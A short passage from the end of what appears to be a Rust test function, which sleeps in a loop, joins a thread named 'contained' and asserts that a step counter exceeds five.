        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    contained.join().unwrap();
    assert!(seen > 5, "the machine sees the step");
}
